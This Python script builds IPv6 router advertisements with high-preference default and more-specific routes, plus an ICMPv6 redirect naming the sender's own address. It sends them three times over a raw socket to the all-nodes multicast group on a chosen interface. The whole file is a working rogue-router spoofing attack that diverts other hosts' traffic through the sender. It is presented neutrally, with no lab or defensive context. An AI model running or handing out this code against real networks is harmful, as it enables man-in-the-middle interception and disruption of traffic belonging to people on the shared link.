"""Sends, from a raw socket on an interface, a router advertisement with a default and a more specific route (RFC 4191) and
a redirect to itself (RFC 4861): advertise.py INTERFACE PREFIX/64 ADDRESS_OF_OURS"""

import ipaddress
import socket
import struct
import sys


def main():
    interface, prefix, own = sys.argv[1:]
    index = socket.if_nametoindex(interface)
    network = ipaddress.ip_network(prefix)
    aim = network[2].packed
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    route = struct.pack("!BBBBI", 24, 3, 64, 0x08, 1800) + network[0].packed
    advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + route
    redirect = struct.pack("!BBHI", 137, 0, 0, 0) + ipaddress.ip_address(own).packed + aim
    for _ in range(3):
        sock.sendto(advertisement, ("ff02::1", 0, 0, index))
        sock.sendto(redirect, ("ff02::1", 0, 0, index))


if __name__ == "__main__":
    main()
